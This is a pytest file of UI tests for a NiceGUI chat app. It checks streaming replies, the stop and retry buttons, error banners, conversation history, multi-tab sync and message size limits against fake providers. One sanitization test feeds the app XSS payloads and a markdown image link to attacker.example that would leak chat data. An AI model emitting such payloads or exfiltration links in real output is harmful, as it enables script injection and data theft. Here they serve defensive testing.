"""What a person does on the chat page and what they see, with `python main.py` run against fake providers."""

from __future__ import annotations

import asyncio

import pytest
from nicegui import ui
from nicegui.testing import User
from nicegui.testing.user_interaction import UserInteraction

from app.storage.database import create_database
from app.storage.models import Role, Status
from app.storage.repository import ChatRepository
from tests.fakes.provider_server import HttpError, Reply
from tests.ui.helpers import (
    assert_status,
    button,
    drawer_titles,
    eventually,
    open_conversation_id,
    replies,
    reply_text,
    send,
    user_messages,
)

pytestmark = pytest.mark.usefixtures("app_env")


async def test_a_sent_message_streams_in_as_markdown_and_completes(user: User, app_env):
    app_env["openai"].play(Reply(tokens=["Here ", "is ", "**bold**", " text."], delay=0.05))
    await user.open("/")

    await send(user, "Say something")

    await user.should_see("Say something")
    await eventually(lambda: assert_status(replies(user)[0], "streaming"))
    assert button(user, "Stop").visible and not button(user, "Send").visible
    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    assert "<strong>bold</strong>" in reply_text(replies(user)[0])
    assert user.find("Message").elements.pop().value == ""
    assert button(user, "Send").visible and not button(user, "Stop").visible


async def test_every_message_says_who_wrote_it(user: User, app_env):
    await user.open("/")

    await send(user, "Hi")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))

    [mine] = user.find(marker="user-message").elements
    assert mine.props["data-role"] == "user" and replies(user)[0].props["data-role"] == "assistant"


async def test_enter_sends_the_message(user: User, app_env):
    await user.open("/")

    user.find("Message").type("Sent with Enter").trigger("keydown.enter.exact")

    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    assert app_env["openai"].chat_requests[-1].body["messages"][-1]["content"] == "Sent with Enter"


async def test_stop_ends_the_reply_and_keeps_what_arrived(user: User, app_env):
    app_env["openai"].play(Reply(tokens=[f"chunk{i} " for i in range(400)], delay=0.02))
    await user.open("/")
    await send(user, "Go on and on")
    await eventually(lambda: reply_text(replies(user)[0]).count("chunk") >= 5)

    user.find(kind=ui.button, content="Stop").click()

    await eventually(lambda: assert_status(replies(user)[0], "stopped"))
    assert await asyncio.to_thread(app_env["openai"].hung_up.wait, 1.0)
    shown = reply_text(replies(user)[0])
    assert "chunk0" in shown and "chunk399" not in shown
    await user.should_see("Stopped")


async def test_a_provider_error_shows_a_banner_below_the_partial_text_and_retry_asks_again(user: User, app_env):
    app_env["openai"].play(
        Reply(tokens=["Partial ", "answer ", "then"], fail_after=2, error_message="Upstream overloaded"),
        Reply(tokens=["A ", "full ", "answer."]),
    )
    await user.open("/")
    await send(user, "Question")

    await eventually(lambda: assert_status(replies(user)[0], "error"))
    [banner] = user.find(marker="error-banner").elements
    assert banner.props["role"] == "alert" and banner.visible
    await user.should_see("Upstream overloaded")
    assert "Partial answer" in reply_text(replies(user)[0])

    user.find(kind=ui.button, content="Retry").click()

    await eventually(lambda: assert_status(replies(user)[-1], "complete"))
    assert "A full answer." in reply_text(replies(user)[-1])
    # The failed attempt is still there, as the first version of the reply.
    await user.should_see("2/2")
    previous = next(b for b in user.find(kind=ui.button).elements if b.props.get("aria-label") == "Previous version")
    UserInteraction(user, {previous}, "Previous version").click()
    await eventually(lambda: "Partial answer" in reply_text(replies(user)[-1]))
    await user.should_see("1/2")


async def test_an_error_before_the_first_token_names_the_cause(user: User, app_env):
    app_env["openai"].play(HttpError(401, "Incorrect API key provided", "invalid_api_key"))
    await user.open("/")

    await send(user, "Hello")

    await eventually(lambda: assert_status(replies(user)[0], "error"))
    await user.should_see("API key was refused")
    await user.should_see("Incorrect API key provided")


async def test_reloading_mid_stream_shows_the_text_so_far_and_keeps_streaming(user: User, app_env):
    app_env["openai"].play(Reply(tokens=[f"w{i} " for i in range(60)], delay=0.03))
    await user.open("/")
    await send(user, "Long one")
    await eventually(lambda: "w5 " in reply_text(replies(user)[0]))
    url = f"/c/{open_conversation_id(user)}"

    await user.open(url)  # a reload: a new page for the same conversation

    assert "w5 " in reply_text(replies(user)[0])
    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    assert "w59" in reply_text(replies(user)[0])
    assert len(app_env["openai"].chat_requests) == 1, "the reload did not start a second reply"


async def test_a_conversation_url_shows_the_whole_history_after_a_restart(user: User, app_env, database_url):
    app_env["anthropic"].play(Reply(tokens=["First answer."]), Reply(tokens=["Second answer."]))
    await user.open("/")
    user.find("Model").click()
    user.find("Anthropic · claude-haiku-4-5").click()
    await send(user, "First question")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    await send(user, "Second question")
    await eventually(lambda: assert_status(replies(user)[-1], "complete"))

    conversation_id = open_conversation_id(user)
    await user.open(f"/c/{conversation_id}")

    for text in ("First question", "First answer.", "Second question", "Second answer."):
        await user.should_see(text)
    sent = app_env["anthropic"].chat_requests[-1].body["messages"]
    assert [m["content"] for m in sent] == ["First question", "First answer.", "Second question"]


async def test_a_note_on_how_a_reply_was_made_is_shown_with_it_after_a_restart(user: User, database_url):
    repository = ChatRepository(create_database(database_url))
    model = "local:SmolLM2-135M-Instruct"
    conversation = repository.create_conversation(model)
    repository.add_message(conversation.id, Role.USER, "A long chat's last question", Status.COMPLETE, model)
    reply = repository.add_message(conversation.id, Role.ASSISTANT, "An answer.", Status.COMPLETE, model)
    note = "The 12 oldest messages were left out: the conversation is longer than the model's context window."
    repository.save_reply(reply.id, note=note)

    await user.open(f"/c/{conversation.id}")

    await user.should_see(note)
    assert user.find(marker="context-note").elements.pop().visible


async def test_new_chat_starts_an_empty_conversation_and_the_drawer_lists_newest_first(user: User, app_env):
    await user.open("/")
    await send(user, "Older chat")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))

    user.find(kind=ui.button, content="New chat").click()
    await user.should_see("How can I help?")
    await send(user, "Newer chat")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))

    assert drawer_titles(user)[:2] == ["Newer chat", "Older chat"]
    assert user_messages(user) == ["Newer chat"], "the new conversation shows only its own messages"


async def test_the_model_selector_groups_models_by_provider(user: User, app_env):
    await user.open("/")

    [select] = user.find(kind=ui.select, content="Model").elements
    labels = list(select.options.values())
    assert select.props["label"] == "Model"
    assert "OpenAI · gpt-4o-mini" in labels and "Anthropic · claude-sonnet-4-5" in labels
    assert "Together · meta-llama/Llama-3.3-70B-Instruct-Turbo" in labels
    providers = [label.split(" · ")[0] for label in labels]
    assert providers == sorted(providers, key=providers.index), "each provider's models stand together"
    assert not any("embedding" in label or "whisper" in label for label in labels)


async def test_an_empty_message_is_not_sent(user: User, app_env):
    await user.open("/")

    await send(user, "   ")

    await asyncio.sleep(0.1)
    assert app_env["openai"].chat_requests == []
    await user.should_not_see(marker="user-message")
    await user.should_see("How can I help?")


async def test_hostile_model_output_is_shown_as_text_and_images_become_links(user: User, app_env):
    hostile = [
        "<script>alert(1)</script> ",
        "<img src=x onerror=alert(2)> ",
        "[click](javascript:alert(3)) ",
        "![secret](https://attacker.example/leak?d=chat)",
    ]
    app_env["openai"].play(Reply(tokens=hostile))
    await user.open("/")

    await send(user, "Be evil")

    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    html = reply_text(replies(user)[0])
    assert "<script" not in html and "<img" not in html and "onerror=" not in html.replace("onerror=alert", "")
    assert 'href="javascript:' not in html
    assert '<a class="md-image-link" href="https://attacker.example/leak?d=chat"' in html


@pytest.fixture
def conversation_cut_by_a_crash(app_env, database_url) -> str:
    """A database as a crash leaves it: a reply still marked streaming. Set up before main.py starts."""
    repository = ChatRepository(create_database(database_url))
    conversation = repository.create_conversation("openai:gpt-4o-mini")
    repository.add_message(conversation.id, Role.USER, "Before the crash", Status.COMPLETE, "openai:gpt-4o-mini")
    repository.add_message(conversation.id, Role.ASSISTANT, "Half a rep", Status.STREAMING, "openai:gpt-4o-mini")
    return conversation.id


async def test_a_reply_cut_off_by_a_crash_is_shown_as_interrupted_after_restart(
    conversation_cut_by_a_crash, user: User
):
    await user.open(f"/c/{conversation_cut_by_a_crash}")

    assert_status(replies(user)[0], "interrupted")
    await user.should_see("Half a rep")
    await user.should_see("Interrupted")


async def test_an_unknown_conversation_says_so(user: User):
    await user.open("/c/not-a-real-id")

    await user.should_see("This conversation does not exist.")


async def test_api_keys_never_reach_the_browser(user: User, app_env):
    await user.open("/")
    await send(user, "Hi")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))

    page = (await user.http_client.get(f"/c/{open_conversation_id(user)}")).text

    assert " · Chat</title>" in page, "the page itself, titled after the conversation"
    for server in app_env.values():
        assert server.api_key not in page
        assert server.base_url not in page


async def test_a_one_megabyte_message_is_sent_and_shown_whole(user: User, app_env):
    text = "0123456789abcdef" * 65_536  # 1 MiB
    await user.open("/")

    await send(user, text)

    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    assert user_messages(user) == [text]
    assert app_env["openai"].chat_requests[0].body["messages"][0]["content"] == text


async def test_a_message_over_the_limit_is_refused_with_a_clear_message_and_kept_in_the_box(
    user: User, app_env, monkeypatch
):
    await user.open("/")
    too_long = "x" * 2_000_001

    await send(user, too_long)

    await user.should_see("the limit is 2,000,000")
    assert user.find("Message").elements.pop().value == too_long
    assert app_env["openai"].chat_requests == []


async def test_a_reply_sent_from_one_tab_streams_in_every_tab_of_that_conversation(user: User, create_user, app_env):
    await user.open("/")
    await send(user, "First, from the laptop")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    phone = create_user()
    await phone.open(f"/c/{open_conversation_id(user)}")

    app_env["openai"].play(Reply(tokens=[f"part{i} " for i in range(30)], delay=0.02))
    await send(user, "Second, from the laptop")

    await eventually(lambda: assert_status(replies(phone)[-1], "streaming"))
    assert button(phone, "Stop").visible
    await eventually(lambda: assert_status(replies(phone)[-1], "complete"))
    assert user_messages(phone) == ["First, from the laptop", "Second, from the laptop"]
    assert reply_text(replies(phone)[-1]) == reply_text(replies(user)[-1])
    assert "part29" in reply_text(replies(phone)[-1])


async def test_a_typing_indicator_shows_until_the_first_token(user: User, app_env):
    app_env["openai"].play(Reply(tokens=["", "Here", " it is."], delay=0.3))
    await user.open("/")

    await send(user, "Think first")

    await user.should_see(marker="typing")
    await eventually(lambda: assert_status(replies(user)[0], "complete"))
    await user.should_not_see(marker="typing")


@pytest.fixture
def impatient_database(app_env, monkeypatch):
    monkeypatch.setenv("DATABASE_BUSY_TIMEOUT", "0.2")  # a write gives up on a held lock after 0.2 s, then retries


async def test_while_the_database_is_held_elsewhere_the_reply_says_saving_is_failing(
    impatient_database, user: User, app_env, database_url
):
    import sqlite3

    from sqlalchemy.engine import make_url

    app_env["openai"].play(Reply(tokens=[f"w{i} " for i in range(30)], delay=0.05))
    await user.open("/")
    await send(user, "Keep writing")
    await eventually(lambda: "w2" in reply_text(replies(user)[0]))

    holder = sqlite3.connect(make_url(database_url).database, timeout=0, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    await user.should_see("Saving is failing", retries=50)
    await user.should_see("will be saved, and shown, when the database is writable again")
    holder.execute("ROLLBACK")
    holder.close()

    await eventually(lambda: assert_status(replies(user)[0], "complete"), timeout=10)
    await user.should_not_see("Saving is failing")
    assert "w29" in reply_text(replies(user)[0])
